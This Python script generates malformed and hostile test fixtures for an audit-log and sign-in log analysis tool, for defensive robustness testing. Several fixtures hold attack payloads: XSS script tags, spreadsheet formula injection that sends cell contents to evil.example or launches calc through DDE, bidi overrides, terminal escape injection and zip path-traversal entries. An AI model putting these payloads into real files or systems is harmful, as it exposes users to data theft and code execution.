#!/usr/bin/env python3
"""Writes tests/fixtures/bad/: small malformed or hostile inputs, each named
for what it shows. tests/bad_input.rs holds the expected outcome of each.
Deterministic: running it again gives the same bytes. Big inputs (bombs,
50 MB fields, 200,000 columns) are made by the test at run time instead."""
import gzip, io, json, os, random, zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
FIX = os.path.join(HERE, "..", "tests", "fixtures")
OUT = os.path.join(FIX, "bad")
os.makedirs(OUT, exist_ok=True)


def write(name, data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    assert len(data) < 20_000, name
    with open(os.path.join(OUT, name), "wb") as f:
        f.write(data)


def read(name):
    with open(os.path.join(FIX, name), "rb") as f:
        return f.read()


def gz(data):
    # mtime 0 so the bytes do not change between runs.
    buf = io.BytesIO()
    with gzip.GzipFile(fileobj=buf, mode="wb", mtime=0) as g:
        g.write(data)
    return buf.getvalue()


def zipped(files):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in files:
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
    return buf.getvalue()


# --- Bases: small good inputs the bad ones are made from ---------------------
UAL_HEADER = '"RunspaceId","RecordType","CreationDate","UserIds","Operations","AuditData","ResultIndex","ResultCount","Identity","IsValid","ObjectState"\n'


def ual_row(n, op="MailItemsAccessed", when="3/1/2026 4:58:30 PM", user="victim@contoso.com", ip="198.51.100.23", record_id=None, audit=None, audit_time=True):
    """One Search-UnifiedAuditLog row. Without `audit_time` its AuditData has
    no CreationTime, so the row's time comes from the CreationDate column."""
    rid = record_id or f"4f6c3b1e-2a7d-4e88-9c1f-5b2d7e9a0c{n:02d}"
    if audit is None:
        data = {"CreationTime": "2026-03-01T15:58:30", "Id": rid, "Operation": op, "RecordType": 50,
                "UserId": user, "ClientIPAddress": ip, "Workload": "Exchange"}
        if not audit_time:
            del data["CreationTime"]
        audit = json.dumps(data)
    cells = ["3c2d1e0f-9a8b-4c7d-6e5f-4a3b2c1d0e9f", "ExchangeItemAggregated", when, user, op, audit, str(n), "3", rid, "True", "Unchanged"]
    return ",".join('"' + c.replace('"', '""') + '"' for c in cells) + "\n"


UAL_GOOD = UAL_HEADER + "".join(ual_row(i) for i in range(1, 4))


def signin(n, **over):
    rec = {"id": f"a1c3e5f7-0001-4b2d-9e8f-1000000000{n:02d}", "createdDateTime": f"2026-03-01T16:0{n % 10}:11Z",
           "userDisplayName": "Vic Tim", "userPrincipalName": "victim@contoso.com", "userId": "5e2a9c71-0b3d-4c8e-a1f2-33d4e5f60718",
           "appId": "4765445b-32c6-49b0-83e6-1d93765276ca", "appDisplayName": "OfficeHome", "ipAddress": "102.89.34.5",
           "clientAppUsed": "Browser", "correlationId": "c0ffee00-0001-4000-8000-000000000001", "isInteractive": True,
           "status": {"errorCode": 0, "failureReason": None},
           "location": {"city": "Lagos", "countryOrRegion": "NG"}}
    rec.update(over)
    return rec


def page(records):
    return json.dumps({"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#auditLogs/signIns", "value": records}, indent=1)


PAGE_GOOD = page([signin(i) for i in range(1, 4)])
NDJSON_GOOD = "".join(json.dumps(signin(i)) + "\n" for i in range(1, 4))
PORTAL = read("signin_portal_interactive.csv").decode("utf-8-sig")
PORTAL_LINES = PORTAL.splitlines(keepends=True)
PORTAL_SMALL = "".join(PORTAL_LINES[:4])

# --- Truncation at every structural point ------------------------------------
i = UAL_GOOD.rindex("ClientIPAddress")
write("trunc_csv_mid_quoted_auditdata.csv", UAL_GOOD[:i])
write("trunc_csv_mid_row_unquoted.csv", PORTAL_SMALL[: len(PORTAL_SMALL) - 900])
write("trunc_csv_mid_header.csv", UAL_HEADER[:60])
write("trunc_json_array_mid_object.json", json.dumps([signin(i) for i in range(1, 4)], indent=1)[:-200])
write("trunc_graph_page_mid_value.json", PAGE_GOOD[: PAGE_GOOD.rindex('"ipAddress"')])
write("trunc_graph_page_before_close.json", PAGE_GOOD.rstrip()[:-3])
write("trunc_json_mid_string.json", PAGE_GOOD[: PAGE_GOOD.rindex("Vic Tim") + 3])
write("trunc_ndjson_last_line.ndjson", NDJSON_GOOD[:-80])
write("trunc_gzip_half.csv.gz", gz(UAL_GOOD.encode())[: len(gz(UAL_GOOD.encode())) // 2])
UAL_200 = (UAL_HEADER + "".join(ual_row(i) for i in range(1, 201))).encode()
write("trunc_gzip_half_of_200_rows.csv.gz", gz(UAL_200)[: len(gz(UAL_200)) // 2])
write("trunc_gzip_inside_first_record.json.gz", gz(PAGE_GOOD.encode())[:200])
write("trunc_gzip_header_only.csv.gz", gz(UAL_GOOD.encode())[:10])
write("trunc_gzip_no_trailer.json.gz", gz(PAGE_GOOD.encode())[:-8])
write("trunc_utf8_mid_sequence.csv", (UAL_HEADER + ual_row(1, user="zoë@contoso.com")).encode()[:-1] + "é".encode()[:1])

# --- Encoding mistakes --------------------------------------------------------
write("enc_utf16le_no_bom.csv", UAL_GOOD.encode("utf-16-le"))
write("enc_utf16be_no_bom.csv", UAL_GOOD.encode("utf-16-be"))
write("enc_utf16le_bom_odd_byte_count.csv", b"\xff\xfe" + UAL_GOOD.encode("utf-16-le") + b"\x41")
write("enc_invalid_utf8_byte_in_row.csv", (UAL_HEADER + ual_row(1)).encode() + ual_row(2, user="ren\xe9@contoso.com").encode("latin-1") + ual_row(3).encode())
write("enc_mixed_utf8_then_latin1.csv", (UAL_HEADER + ual_row(1, user="zoë@contoso.com")).encode() + ual_row(2, user="josé@contoso.com").encode("latin-1"))
portal_1252 = PORTAL_SMALL.replace("Vic Tim", "Zoë Müller – Admin")
write("enc_windows1252_excel_resave.csv", portal_1252.replace(",", ";").encode("cp1252"))
write("enc_bom_in_middle_of_file.csv", (UAL_HEADER + ual_row(1) + "\ufeff" + ual_row(2) + ual_row(3)).encode())
write("enc_two_boms_at_start.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + UAL_GOOD.encode())
write("enc_utf16le_bom_json_page.json", b"\xff\xfe" + PAGE_GOOD.encode("utf-16-le"))
write("enc_utf32le_bom.csv", b"\xff\xfe\x00\x00" + UAL_HEADER.encode("utf-32-le"))
write("enc_lone_surrogate_escape.json", page([signin(1, userDisplayName="\\ud800broken")]).replace("\\\\ud800", "\\ud800"))

# --- Binary -------------------------------------------------------------------
png = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + bytes(range(0, 200))
write("bin_png_image.png", png)
write("bin_zip_of_text_not_a_snapshot.zip", zipped([("notes.txt", b"just some notes, not configuration\n")]))
rng = random.Random(17)
write("bin_random_bytes.bin", bytes(rng.randrange(256) for _ in range(4096)))
write("bin_all_nul_bytes.csv", b"\x00" * 2048)
write("bin_pdf_document.pdf", b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog >>\nendobj\n" + bytes(rng.randrange(256) for _ in range(512)))
write("bin_elf_executable", b"\x7fELF\x02\x01\x01\x00" + bytes(rng.randrange(256) for _ in range(512)))
write("bin_gzip_of_png.gz", gz(png))

# --- Bombs (small representatives; the large ones are made at run time) ------
write("bomb_gzip_8mb_of_newlines.csv.gz", gz(UAL_HEADER.encode() + b"\n" * (8 << 20)))
write("bomb_gzip_4mb_line_without_break.csv.gz", gz(UAL_HEADER.encode() + b"A" * (4 << 20)))
write("bomb_json_nesting_5000_deep.json", "[" * 5000 + "]" * 5000)
write("bomb_record_nested_3000_deep.json", "[" + json.dumps(signin(1))[:-1] + ', "deep": ' + "[" * 3000 + "]" * 3000 + "}]")
write("bomb_csv_quote_never_closed.csv", UAL_HEADER + ual_row(1) + '"x","y","3/1/2026 4:58:30 PM","a@b.c","Op","{' + "x" * 4000 + "\n" * 50)

# --- Hostile strings ----------------------------------------------------------
write("hostile_script_tags_in_fields.csv", UAL_HEADER + ual_row(1, user="<script>alert(1)</script>@contoso.com", op="<img src=x onerror=alert(1)>") + ual_row(2))
formula_users = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
write("hostile_formula_shaped_values.csv", UAL_HEADER + "".join(ual_row(i + 1, user=u) for i, u in enumerate(formula_users)))
write("hostile_bidi_overrides.json", page([signin(1, userPrincipalName="admin\u202e@contoso.com\u202c", appDisplayName="\u202egnp.exe"), signin(2)]))
write("hostile_nul_bytes_in_fields.csv", UAL_HEADER + ual_row(1, op="Mail\x00ItemsAccessed") + ual_row(2))
write("hostile_nul_escapes_in_json.json", page([signin(1, userDisplayName="a\u0000b", appDisplayName="\u0007\u001b[31m"), signin(2)]))
write("hostile_ansi_and_crlf_injection.ndjson", json.dumps(signin(1, userDisplayName="x\r\nFAKE LINE\x1b[2J")) + "\n")

# --- Duplicate and conflicting record ids ------------------------------------
write("dup_same_record_twice.csv", UAL_HEADER + ual_row(1) + ual_row(1) + ual_row(2))
write("dup_same_id_conflicting_content.json", page([signin(1), signin(1, ipAddress="203.0.113.66", userPrincipalName="attacker@evil.example"), signin(2)]))
# One record, an edited copy under its id (kept, flagged with its line), then
# a copy of each (dropped as duplicates).
write("dup_ual_edited_copy_under_same_id.csv", UAL_HEADER + ual_row(1) + ual_row(1, ip="203.0.113.66") + ual_row(1) + ual_row(1, ip="203.0.113.66") + ual_row(2))
write("dup_empty_ids_kept.ndjson", "".join(json.dumps(signin(i, id="")) + "\n" for i in range(1, 4)))

# --- Impossible and ambiguous dates ------------------------------------------
write("date_year_zero.json", page([signin(1, createdDateTime="0000-01-01T00:00:00Z"), signin(2)]))
write("date_year_9999.json", page([signin(1, createdDateTime="9999-12-31T23:59:59Z"), signin(2)]))
write("date_feb_30.csv", UAL_HEADER + ual_row(1, when="2/30/2026 4:58:30 PM", audit_time=False) + ual_row(2))
write("date_negative_epoch.json", page([signin(1, createdDateTime=-86400000), signin(2, createdDateTime="1969-12-31T23:59:59Z"), signin(3)]))
write("date_locale_day_first.csv", UAL_HEADER + ual_row(1, when="31/12/2025 16:58:30", audit_time=False) + ual_row(2, when="01/12/2025 10:00:00", audit_time=False))
write("date_locale_month_first.csv", UAL_HEADER + ual_row(1, when="12/31/2025 4:58:30 PM", audit_time=False) + ual_row(2, when="12/01/2025 10:00:00 AM", audit_time=False))
write("date_locale_ambiguous.csv", UAL_HEADER + ual_row(1, when="01/02/2026 10:00:00", audit_time=False) + ual_row(2, when="03/04/2026 10:00:00", audit_time=False))
write("date_locale_contradicting.csv", UAL_HEADER + ual_row(1, when="31/12/2025 16:58:30", audit_time=False) + ual_row(2, when="12/31/2025 4:58:30 PM", audit_time=False))
write("date_empty_and_garbage.json", page([signin(1, createdDateTime=""), signin(2, createdDateTime="yesterday"), signin(3)]))
write("date_feb_30_signin_portal.csv", PORTAL_SMALL.replace("2026-03-01T16:02:11Z", "2026-02-30T16:02:11Z"))
write("date_month_13_hour_25.csv", UAL_HEADER + ual_row(1, when="13/13/2026 25:61:00", audit_time=False) + ual_row(2))

# --- Wrong types --------------------------------------------------------------
write("type_number_where_string.json", page([signin(1, userPrincipalName=42, ipAddress=3232235777), signin(2)]))
write("type_object_where_string.json", page([signin(1, userPrincipalName={"upn": "x@y.z"}, ipAddress=["1.2.3.4"]), signin(2)]))
write("type_nested_json_as_text.json", page([signin(1, status=json.dumps({"errorCode": 50126, "failureReason": "bad password"}), location=json.dumps({"city": "Oslo", "countryOrRegion": "NO"})), signin(2)]))
write("type_array_and_scalars_as_records.json", json.dumps([signin(1), [1, 2, 3], "text", 42, None, signin(2)]))
write("type_auditdata_not_json.csv", UAL_HEADER + ual_row(1, audit="{not json at all") + ual_row(2, audit="") + ual_row(3))
write("type_nulls_everywhere.json", page([{k: None for k in signin(1)}, signin(2)]))
write("type_huge_numbers.json", page([signin(1, isInteractive="NUMBER1", status={"errorCode": 99999999999999999999999999}), signin(2)]).replace('"NUMBER1"', "1e400"))

# --- Structure ----------------------------------------------------------------
write("struct_empty_file.csv", b"")
write("struct_whitespace_only.json", "  \n\t\r\n  ")
write("struct_type_line_only.csv", "#TYPE Deserialized.Microsoft.Exchange.Data.ApplicationLogic.UnifiedAuditLogEvent\n")
write("struct_type_line_and_header_only.csv", "#TYPE Deserialized.Microsoft.Exchange.Data.ApplicationLogic.UnifiedAuditLogEvent\n" + UAL_HEADER)
write("struct_header_only.csv", UAL_HEADER)
write("struct_extra_column.csv", UAL_HEADER.rstrip("\n") + ',"Comment"\n' + "".join(ual_row(i).rstrip("\n") + ',"extra"\n' for i in range(1, 3)))
write("struct_renamed_columns.csv", UAL_HEADER.replace("CreationDate", "When").replace("AuditData", "Payload").replace("Operations", "Action") + ual_row(1))
write("struct_row_wider_than_header.csv", UAL_HEADER + ual_row(1).rstrip("\n") + ',"surplus"\n' + ual_row(2))
write("struct_row_narrower_than_header.csv", UAL_HEADER + '"a","b","3/1/2026 4:58:30 PM"\n' + ual_row(2))
write("struct_json_scalar.json", "42\n")
write("struct_json_empty_array.json", "[]")
write("struct_graph_page_empty_value.json", page([]))
write("struct_unknown_json_layout.json", json.dumps([{"foo": 1, "bar": "baz"}, {"foo": 2}]))
write("struct_unknown_csv_layout.csv", "Name,Colour,Size\nApple,Red,3\n")
write("struct_blank_lines_between_rows.csv", UAL_HEADER + ual_row(1) + "\n\n\r\n" + ual_row(2))
write("struct_mixed_crlf_and_lf.csv", UAL_HEADER.replace("\n", "\r\n") + ual_row(1) + ual_row(2).replace("\n", "\r\n"))
write("struct_ndjson_blank_and_garbage_lines.ndjson", json.dumps(signin(1)) + "\n\n" + "not json\n" + "{\"half\": \n" + json.dumps(signin(2)) + "\n")
write("struct_two_graph_pages_concatenated.json", PAGE_GOOD + "\n" + page([signin(5)]))

# --- IP databases --------------------------------------------------------------
write("ipdb_city_bad_rows.csv", "".join(f"192.0.{i}.0,192.0.{i}.255,NA,US,Washington,Seattle,47.6,-122.3\n" for i in range(2, 8)) +
      "not-an-ip,192.0.2.9,NA,US,X,Y,1,2\n"
      "198.51.100.200,198.51.100.1,EU,GB,England,London,51.5,-0.1\n"
      "203.0.113.0,203.0.113.255,AS,SG,Central,Singapore,91.5,200\n"
      "10.0.0.0,::1,EU,GB,A,B,1,2\n"
      "203.0.114.0,203.0.114.255,AS,SG\n")
write("ipdb_iptoasn_lone_quote.tsv", "1.0.0.0\t1.0.0.255\t13335\tUS\tCLOUDFLARENET \"quoted\n1.0.4.0\t1.0.7.255\t0\tNone\tNot routed\n")
write("ipdb_not_a_database.csv", "hello,world\n1,2\n")
write("ipdb_country_truncated_row.csv", "192.0.2.0,192.0.2.255,US\n192.0.3.0,192.0.3.255,US\n198.51.100.0,198.51")

# --- Tenant configuration snapshots --------------------------------------------
DOMAINS = read("tenant/baseline/domains_managed.json")
write("tenant_page_truncated.json", DOMAINS[: len(DOMAINS) * 2 // 3])
write("tenant_zip_truncated.zip", zipped([("domains.json", DOMAINS)])[:300])
write("tenant_zip_inside_zip.zip", zipped([("inner.zip", zipped([("domains.json", DOMAINS)])), ("domains.json", DOMAINS)]))
write("tenant_zip_path_traversal.zip", zipped([("../../etc/domains.json", DOMAINS), ("/abs/domains2.json", DOMAINS)]))
write("tenant_zip_bad_entry_and_good_entry.zip", zipped([("garbage.json", b"\x00\x01 not json"), ("domains.json", DOMAINS)]))
write("tenant_objects_without_ids.json", json.dumps({"@odata.context": "https://graph.microsoft.com/v1.0/$metadata#domains", "value": [{"authenticationType": "Managed"}, {"id": None}]}))

# --- Case documents and bundles ------------------------------------------------
write("case_not_json.json", "{\"kind\": \"loupe-case\", \"version\": 2, ")
write("case_wrong_kind.json", json.dumps({"kind": "something-else", "version": 1, "case": {}}))
write("case_newer_version.json", json.dumps({"kind": "loupe-case", "version": 99, "case": {}}))
write("case_no_version.json", json.dumps({"kind": "loupe-case", "case": {}}))
write("case_damaged_body.json", json.dumps({"kind": "loupe-case", "version": 2, "case": {"name": 42, "notes": ["x"]}}))
write("case_hostile_strings.json", json.dumps({"kind": "loupe-case", "version": 2, "case": {"name": "<script>alert(1)</script>\u202e", "notes": "=HYPERLINK(\"http://evil\")\u0000"}}))
write("bundle_without_manifest.zip", zipped([("case.json", json.dumps({"kind": "loupe-case", "version": 2, "case": {}}))]))
manifest = {"kind": "loupe-bundle", "version": 1, "note": "", "files": [{"entry": "evidence/001-a.csv", "name": "a.csv", "sha256": "aa", "stored_sha256": "0" * 64},
                                                                      {"entry": "evidence/002-missing.csv", "name": "missing.csv", "sha256": "bb", "stored_sha256": "0" * 64}]}
write("bundle_hash_mismatch_and_missing_entry.zip", zipped([("bundle.json", json.dumps(manifest)), ("case.json", json.dumps({"kind": "loupe-case", "version": 2, "case": {}})), ("evidence/001-a.csv", UAL_GOOD)]))
write("bundle_case_damaged.zip", zipped([("bundle.json", json.dumps({"kind": "loupe-bundle", "version": 1, "note": "", "files": []})), ("case.json", "{\"kind\":")]))
write("bundle_manifest_wrong_shape.zip", zipped([("bundle.json", json.dumps({"kind": "loupe-bundle", "version": "one"})), ("case.json", "{}")]))

# --- Queries (one per file) ---------------------------------------------------
write("query_unclosed_quote.txt", 'user:"alice@contoso.com')
write("query_lone_dash.txt", "op:Send - ip:1.2.3.4")
write("query_bad_time.txt", "after:31/02/2026")
write("query_field_without_value.txt", "user:")
write("query_hostile_characters.txt", "user:\u202eadmin\u0000 <script> =HYPERLINK(1) ip:::::")
write("query_unknown_field.txt", "colour:red")
print("wrote", len(os.listdir(OUT)), "files to", OUT)
